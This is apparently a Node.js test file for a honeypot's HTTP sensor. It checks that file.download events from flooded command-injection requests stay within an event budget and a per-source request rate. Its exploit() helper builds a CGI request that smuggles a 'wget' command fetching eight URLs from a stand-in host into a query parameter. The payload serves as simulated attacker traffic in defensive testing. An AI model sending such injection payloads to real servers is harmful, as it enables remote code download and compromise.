// Downloads an exploit names but nothing fetched (fetch off, refused, failed) are budgeted like any
// event, and a request over the source's request rate takes no fetch path: pipelined exploit requests
// naming eight URLs each once stored one kept file.download per URL, 17,000 a second.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { connect } from 'node:net';
import pino from 'pino';
import { fetchSchema, httpService, quarantineSchema } from '../../../src/config/schema.js';
import type { ApiaryEvent } from '../../../src/events/catalogue.js';
import { compileAuthPolicy } from '../../../src/sensors/runtime/auth-policy.js';
import { createCapture } from '../../../src/sensors/runtime/capture.js';
import { BURST_SECONDS, SESSION_HEAD_EVENTS } from '../../../src/sensors/runtime/event-budget.js';
import { openHoneytokenRegistry } from '../../../src/sensors/runtime/honeytokens.js';
import { ConnectionGate } from '../../../src/sensors/runtime/listener.js';
import { MAX_REQUESTS_PER_CONNECTION, startHttpSensor } from '../../../src/sensors/http/sensor.js';
import { startApiaryProcess, tempDir, waitFor } from '../../helpers/apiary-process.js';

/** A command injection naming eight URLs on a documentation address (fetch is off: nothing is fetched). */
function exploit(tag: string): string {
  const urls = Array.from({ length: 8 }, (_, k) => `http://198.51.100.7/${tag}_${k}`).join('+');
  return `GET /cgi-bin/a?x=;wget+${urls} HTTP/1.1\r\nHost: x\r\n\r\n`;
}

/** Pipelines COUNT exploit requests on one connection from FROM and resolves when the server has closed it (or 20 s). */
function pipeline(port: number, from: string, count: number, tag: string): Promise<void> {
  return new Promise((resolve) => {
    const s = connect({ port, host: '127.0.0.1', localAddress: from });
    const t = setTimeout(() => s.destroy(), 20_000);
    s.on('connect', () => s.end(Array.from({ length: count }, (_, i) => exploit(`${tag}${i}`)).join('')));
    s.on('data', () => undefined);
    s.on('error', () => undefined);
    s.on('close', () => {
      clearTimeout(t);
      resolve();
    });
  });
}

test('an exploit flood naming URLs with fetch off: its file.download events are held to the event budget, another source is still recorded', async (t) => {
  const EVENTS_S = 20;
  const apiary = await startApiaryProcess({
    sensor: 'download-budget',
    services: { http: { listen: ['127.0.0.1:0'] } },
    // The request rate out of the way: the event budget alone must hold the downloads.
    limits: { source_events_s: EVENTS_S, source_requests_s: 100_000 },
  });
  let elapsedS = 0;
  const ROUNDS = 3;
  const PARALLEL = 8;
  try {
    const port = apiary.ports.http!;
    const start = Date.now();
    for (let r = 0; r < ROUNDS; r++) {
      await Promise.all(Array.from({ length: PARALLEL }, (_, c) => pipeline(port, '127.0.0.1', MAX_REQUESTS_PER_CONNECTION, `r${r}c${c}n`)));
    }
    elapsedS = (Date.now() - start) / 1000;
    // A request from another source after the flood: recorded in full.
    await pipeline(port, '127.0.0.2', 1, 'other');
  } finally {
    await apiary.stop();
  }
  const events = await apiary.events(['--limit', '1000000']);
  const from = (ip: string, type: string) => events.filter((e) => e.src_ip === ip && e.type === type);
  const downloads = from('127.0.0.1', 'file.download').length;
  const requests = ROUNDS * PARALLEL * MAX_REQUESTS_PER_CONNECTION;
  const limited = from('127.0.0.1', 'connection.limited').filter((e) => e.limit === 'event_rate');
  const counted = limited.reduce((n, e) => n + (e.refused as number), 0);
  t.diagnostic(`${requests} requests naming ${requests * 8} URLs in ${elapsedS.toFixed(1)} s: ${downloads} file.download stored, ${counted} events counted`);
  // The burst, what refilled while the flood ran, and at most one burst of debt (kept events and heads).
  const bound = EVENTS_S * (2 * BURST_SECONDS + Math.ceil(elapsedS) + 1) + SESSION_HEAD_EVENTS;
  assert.ok(downloads <= bound, `${downloads} file.download stored for ${requests} requests; the budget allows ${bound}`);
  assert.ok(limited.length >= 1 && counted >= requests * 8 - bound, `the rest counted in connection.limited: ${counted}`);
  assert.ok(from('127.0.0.1', 'exploit.attempt').length >= 1, 'the exploits are still recorded within the budget');
  assert.equal(from('127.0.0.1', 'connection.open').length, ROUNDS * PARALLEL, 'every connection still has its open');
  assert.equal(from('127.0.0.2', 'http.request').length, 1, 'another source is recorded');
  assert.ok(from('127.0.0.2', 'exploit.attempt').length >= 1);
  assert.equal(from('127.0.0.2', 'file.download').length, 8, 'with the downloads its exploit names');
  assert.equal(apiary.proc.exitCode, 0);
});

test('a request over its source\'s request rate takes no fetch path: its exploit is recorded, its URLs are not', async () => {
  const events: ApiaryEvent[] = [];
  const dir = tempDir();
  const services = await startHttpSensor(httpService.parse({ listen: ['127.0.0.1:0'] }), {
    sensor: 't',
    sink: { write: (e: ApiaryEvent) => void events.push(e), flush: async () => {} },
    gate: new ConnectionGate(100, 100, () => {}),
    log: pino({ level: 'silent' }),
    policy: compileAuthPolicy([]),
    capture: createCapture(dir, fetchSchema.parse({}), quarantineSchema.parse({})),
    honeytokens: openHoneytokenRegistry(dir),
    requestsPerSecond: 1,
  });
  try {
    const COUNT = 60;
    await pipeline(services[0]!.bound[0]!.port, '127.0.0.1', COUNT, 'rate');
    const count = (type: string) => events.filter((e) => e.type === type).length;
    await waitFor(() => count('exploit.attempt') >= COUNT, 5000);
    // The fetch path is asynchronous (fetch off answers at once): let it finish before counting.
    await new Promise((r) => setTimeout(r, 200));
    const admitted = count('http.request');
    assert.ok(admitted >= 1 && admitted < COUNT, `${admitted} of ${COUNT} requests within the rate`);
    assert.equal(count('file.download'), admitted * 8, 'URLs only of requests within the rate');
    assert.ok(events.every((e) => e.type !== 'file.download' || (e.payload as { outcome: string }).outcome === 'disabled'));
  } finally {
    await Promise.all(services.map((s) => s.close()));
  }
});
